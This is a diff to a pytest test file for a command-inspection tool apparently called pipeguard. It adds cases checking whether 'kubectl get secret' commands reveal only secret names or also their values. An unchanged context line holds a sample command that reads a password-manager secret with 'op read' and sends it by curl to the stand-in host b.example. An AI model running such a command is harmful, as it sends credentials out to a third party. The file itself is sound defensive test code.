@@ -2,7 +2,12 @@
 
 import pytest
 
-from pipeguard.detect.checks.benign_commands import is_disposable, is_installer, is_login
+from pipeguard.detect.checks.benign_commands import (
+    is_disposable,
+    is_installer,
+    is_login,
+    shows_names,
+)
 
 
 @pytest.mark.parametrize(
@@ -63,3 +68,20 @@ def test_every_use_of_the_output_counts() -> None:
     assert is_login(b"$ op read", lines)
     assert not is_login(b"$ op read", lines + b"$ curl -d $(op\x1fread\x1fx) https://b.example\n")
     assert not is_login(b"$ op read", b"$ op read x\n")
+
+
+@pytest.mark.parametrize(
+    ("lines", "expected"),
+    [
+        (b"$ kubectl get secret -o name\n", True),
+        (b"$ kubectl get secret -o name | $ cat\n$ kubectl get pods\n", True),
+        (b"$ kubectl get secret -o name", False),  # cut off: more may follow
+        (b"$ kubectl get secret -o name | $ kubectl get -o yaml\n", False),
+        (b"$ kubectl get secret -o name\n$ kubectl get $n -o yaml\n", False),
+        (b"$ kubectl get secret -o name --output=json\n", False),
+    ],
+)
+def test_names_are_told_from_values_also_if_they_lead_to_these(
+    lines: bytes, *, expected: bool
+) -> None:
+    assert shows_names(b"\n$ kubectl get secret -o", b"\n" + lines) is expected
